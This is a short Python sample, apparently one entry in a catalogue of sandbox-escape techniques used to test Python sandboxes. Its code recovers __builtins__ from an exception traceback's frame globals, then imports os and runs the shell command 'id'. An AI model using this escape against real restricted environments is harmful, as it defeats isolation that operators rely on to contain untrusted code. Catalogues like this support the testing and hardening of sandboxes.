# Source: https://healeycodes.com/running-untrusted-python-code (except ... as e: e.__traceback__.tb_frame)
# Family: frame
# What: exception __traceback__.tb_frame.f_globals restores __builtins__
try:
    1 / 0
except ZeroDivisionError as e:
    fr = e.__traceback__.tb_frame
    fr.f_globals["__builtins__"].__import__("os").system("id")
